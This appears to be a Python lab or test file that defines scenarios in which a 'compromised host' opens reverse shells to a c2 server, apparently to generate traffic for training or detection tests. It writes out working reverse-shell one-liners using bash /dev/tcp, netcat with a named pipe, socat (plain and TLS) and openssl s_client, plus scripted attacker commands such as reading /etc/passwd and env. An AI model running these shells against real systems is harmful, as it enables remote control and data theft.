"""Shells that a compromised host opens to its master, who types commands now and then."""

from tests.lab.scenario import Scenario
from tests.lab.training._step import Named, attack, scenario, server

_SECONDS = 60.0
_TYPED = (
    "for word in id uptime 'ls -l /etc' 'cat /etc/passwd' df 'ps ax' 'ls -lR /usr/share/doc | head"
    " -300' mount env 'ls /' date id; do echo \"$word\"; sleep $((2 + RANDOM % 5)); done; sleep 2"
)


def _shell(tool: str, actor: str, far: str, near: str) -> Scenario:
    return scenario(
        server("c2", f"bash -c '({_QUOTED}) | {far}'", _SECONDS + 8),
        attack("c2", tool, actor, "c2", near, _SECONDS, at=1.5),
        services=("web", "dns", "c2"),
    )


_QUOTED = _TYPED.replace("'", "'\\''")
_PIPE = "rm -f {room}/pipe-NAME; mkfifo {room}/pipe-NAME; sh -i <{room}/pipe-NAME 2>&1"
_KEYS = "cert={room}/etc/tls.pem,key={room}/etc/tls.key,verify=0"
SCENARIOS: dict[str, Named] = {
    "c2_bash": (
        "bash itself connects and serves a shell.",
        _shell(
            "bash-shell",
            "camera",
            "nc -l -p 4444",
            'bash -c "exec bash -i &>/dev/tcp/{c2}/4444 <&1"',
        ),
    ),
    "c2_netcat": (
        "netcat and a named pipe serve a shell.",
        _shell(
            "netcat",
            "laptop",
            "nc -l -p 443",
            f"sh -c '{_PIPE.replace('NAME', 'nc')} | nc {{c2}} 443 >{{room}}/pipe-nc'",
        ),
    ),
    "c2_socat": (
        "socat serves a shell on a terminal.",
        _shell(
            "socat",
            "phone",
            "socat - TCP-LISTEN:8081",
            "socat TCP:{c2}:8081 EXEC:sh,pty,stderr,setsid",
        ),
    ),
    "c2_socat_tls": (
        "socat serves a shell over TLS.",
        _shell(
            "socat",
            "camera",
            f"socat - OPENSSL-LISTEN:8443,{_KEYS}",
            "socat OPENSSL:{c2}:8443,verify=0 EXEC:sh,pty,stderr,setsid",
        ),
    ),
    "c2_openssl": (
        "openssl's client serves a shell over TLS.",
        _shell(
            "openssl",
            "laptop",
            "openssl s_server -quiet -accept 8444 -key {room}/etc/tls.key -cert {room}/etc/tls.pem",
            f"sh -c '{_PIPE.replace('NAME', 'tls')}"
            " | openssl s_client -quiet -connect {c2}:8444 >{room}/pipe-tls'",
        ),
    ),
}
